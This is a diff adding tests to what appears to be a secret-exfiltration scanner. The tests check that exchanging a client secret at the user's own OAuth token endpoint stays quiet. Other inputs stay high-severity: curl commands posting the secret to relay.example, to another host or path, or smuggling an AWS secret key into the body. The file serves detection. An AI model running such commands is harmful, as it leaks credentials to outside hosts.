@@ -351,3 +351,26 @@ def test_metadata_address_in_advice_is_not_high(path, text):
 ])
 def test_metadata_address_requested_stays_high(path, text):
     assert top(path, text, "IG710") in (Severity.HIGH, Severity.CRITICAL)
+
+
+# -- an OAuth token request to the service the user's own setting names ---------------------------
+_GRANT_BENIGN = ('ACCESS=$(curl -s -X POST "${ORBIT_AUTH_URL}/oauth2/token" \\\n'
+                 '  -d "grant_type=client_credentials&client_id=${ORBIT_CLIENT_ID}&client_secret=${ORBIT_CLIENT_SECRET}" | jq -r .access_token)\n'
+                 'curl -s "${ORBIT_API_URL}/v1/jobs" -H "Authorization: Bearer $ACCESS"\n')
+
+
+def test_a_client_secret_exchanged_at_its_own_services_token_endpoint_is_quiet():
+    sev = top("scripts/jobs.sh", _GRANT_BENIGN, "IG703")
+    assert sev is None or sev < Severity.MEDIUM
+
+
+@pytest.mark.parametrize("text", [
+    # the same grant to a written-out host, to another setting's host, or the secret to a non-token path
+    'curl -s -X POST https://relay.example/oauth2/token -d "grant_type=client_credentials&client_secret=${ORBIT_CLIENT_SECRET}"\n',
+    'curl -s -X POST "${MIRROR_URL}/oauth2/token" -d "grant_type=client_credentials&client_secret=${ORBIT_CLIENT_SECRET}"\n',
+    'curl -s -X POST "${ORBIT_AUTH_URL}/upload" -d "grant_type=client_credentials&client_secret=${ORBIT_CLIENT_SECRET}"\n',
+    'curl -s -X POST "${ORBIT_AUTH_URL}/oauth2/token" -d "client_secret=${ORBIT_CLIENT_SECRET}&aws=${AWS_SECRET_ACCESS_KEY}"\n',
+    'curl -s -X POST "${ORBIT_AUTH_URL}/oauth2/token" -d "grant_type=password&password=${AWS_SECRET_ACCESS_KEY}"\n',
+])
+def test_a_client_secret_sent_anywhere_else_stays_high(text):
+    assert top("scripts/jobs.sh", text, "IG703") in HIGH
